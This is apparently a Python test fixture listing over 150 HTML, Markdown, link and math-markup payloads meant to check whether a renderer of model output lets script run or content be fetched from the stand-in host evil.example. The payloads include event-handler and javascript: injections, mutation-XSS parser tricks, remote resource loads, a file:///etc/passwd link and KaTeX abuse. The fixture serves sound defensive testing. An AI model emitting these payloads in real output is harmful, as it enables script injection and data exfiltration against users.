"""What a model, or whoever speaks through it, may write to have something run or fetched: 150 texts and more.

What runs sets `window.__ran`; what is fetched asks `evil.example`.
"""

# ruff: noqa: E501 - each text stands by itself

from __future__ import annotations

from typing import Final

RUN: Final = "window.__ran=1"
AWAY: Final = "https://evil.example"

_ELEMENTS: Final = (
    f"<script>{RUN}</script>", f"<script src={AWAY}/x.js></script>", f"<scr<script>ipt>{RUN}</script>",
    f"<img src=x onerror={RUN}>", f"<img src='{AWAY}/pixel.png'>", f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>", f"<svg><image href='{AWAY}/a.png'></svg>",
    f"<svg><use href='{AWAY}/a.svg#x'></svg>", f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><style>@import '{AWAY}/a.css'</style></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<iframe src='javascript:{RUN}'></iframe>", "<iframe srcdoc='<script>parent.__ran=1</script>'></iframe>",
    f"<object data='{AWAY}/a.swf'></object>", f"<embed src='{AWAY}/a.swf'>", f"<base href='{AWAY}/'>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>", f"<link rel=stylesheet href='{AWAY}/a.css'>",
    f"<style>body{{background:url({AWAY}/b.png)}}</style>", f"<p style='background:url({AWAY}/c.png)'>x</p>",
    f"<form action='{AWAY}'><button>x</button></form>", f"<form><button formaction='javascript:{RUN}'>x</button>",
    f"<input autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>x</details>",
    f"<video src='{AWAY}/v.mp4' autoplay></video>", f"<audio src='{AWAY}/a.mp3' autoplay onerror={RUN}></audio>",
    f"<video><source onerror={RUN}></video>", f"<body onload={RUN}>", f"<marquee onstart={RUN}>x</marquee>",
    f"<template><img src=x onerror={RUN}></template>", f"<a href='javascript:{RUN}'>x</a>",
    f"<a href='{AWAY}' ping='{AWAY}/ping'>x</a>", "<div id=__ran name=__ran><a id=body name=body>x</a></div>",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", f"<xmp><img src=x onerror={RUN}></xmp>",
    f"<!--><img src=x onerror={RUN}>-->", f"<![CDATA[<img src=x onerror={RUN}>]]>", f"<?xml <img src=x onerror={RUN}>?>",
    f"<br onmouseover={RUN}>", f"<sub onclick={RUN}>x</sub>", f"<kbd/onpointerenter={RUN}//>x",
)  # fmt: skip

_LINKS: Final = (
    f"[x](javascript:{RUN})", f"[x](JaVaScRiPt:{RUN})", f"[x](java&#115;cript:{RUN})", f"[x](&#x6A;avascript:{RUN})",
    f"[x](java\tscript:{RUN})", f"[x](\x01javascript:{RUN})", f"[x](<javascript:{RUN}>)", f"<javascript:{RUN}>",
    f"[x](vbscript:{RUN})", f"[x](data:text/html,<script>{RUN}</script>)", "[x](blob:null/1)", "[x](file:///etc/passwd)",
    "[x](//evil.example)", "[x](\\\\evil.example)", "[x](/v1/auth/logout)", f"[x]: javascript:{RUN}\n\n[x]",
    f"[x]({AWAY} \"a' onmouseover={RUN} b='\")", f'[x]({AWAY}/"onclick="{RUN})', f"[x]({AWAY}/`onclick={RUN}`)",
    f"[![x](javascript:{RUN})](javascript:{RUN})", f"![x](javascript:{RUN})", f"![x]({AWAY}/p.png)",
    f"![x]({AWAY}/p.png \"'><img src=x onerror={RUN}>\")", f"![x][p]\n\n[p]: {AWAY}/q.png",
    f"![x](data:image/svg+xml,<svg onload={RUN}>)", f"![\"><img src=x onerror={RUN}>]({AWAY}/r.png)",
    f"{AWAY}/<script>{RUN}</script>", f"www.evil.example/\"onclick={RUN}", f"a@evil.example\"onclick={RUN}",
)  # fmt: skip

_MARKDOWN: Final = (
    f"```\"><img src=x onerror={RUN}>\ncode\n```", f"```html\n<script>{RUN}</script>\n```", f"`<img src=x onerror={RUN}>`",
    f"~~~js onload={RUN}\nlet a\n~~~", f"| a |\n|---|\n| <img src=x onerror={RUN}> |", f"# <img src=x onerror={RUN}>",
    f"- [ ] <img src=x onerror={RUN}>", f"\\<img src=x onerror={RUN}\\>", f"&lt;img src=x onerror={RUN}&gt;",
    f"*<img src=x onerror={RUN}*>", f"<img src=x\nonerror={RUN}\n>", f"<img\n\nsrc=x onerror={RUN}>",
    "\ue0001\ue001<b>\ue000999\ue001", "\ue000<img src=x>\ue001", "\u202e>rorreno x=crs gmi<", "\x00<script>\x00",
    f"[a]: {AWAY}\n[b]: {AWAY}\n<a href=x onclick={RUN}>[a][b]</a>", f"[^1]\n\n[^1]: <img src=x onerror={RUN}>",
)  # fmt: skip

_MATH: Final = (
    f"$\\href{{javascript:{RUN}}}{{x}}$", f"$\\url{{javascript:{RUN}}}$", f"$\\includegraphics{{{AWAY}/a.png}}$",
    f"$$\\htmlData{{onclick={RUN}}}{{x}}$$", f"$$\\htmlStyle{{background:url({AWAY}/x)}}{{x}}$$",
    "$$\\htmlClass{a}{x}$$", "$$\\htmlId{__ran}{x}$$", "$\\def\\a{\\a\\a}\\a$", "$$\\rule{1e9em}{1e9em}$$",
    f"$</math><img src=x onerror={RUN}>$", f"$$\\text{{<img src=x onerror={RUN}>}}$$", f"\\(\\text{{</span><script>{RUN}</script>}}\\)",
    f"$\\color{{red;background:url({AWAY}/y)}}x$", "\\[\\verb|<svg onload=alert(1)>|\\]",
)  # fmt: skip

_PLAIN: Final = (*_ELEMENTS, *_LINKS, *_MARKDOWN, *_MATH)

PAYLOADS: Final = (
    *_PLAIN,
    *(f"> - **a** {one}" for one in (*_ELEMENTS, *_LINKS) if "\n" not in one),
)
"""Each by itself, and most of them also within a quote, a list and other text."""
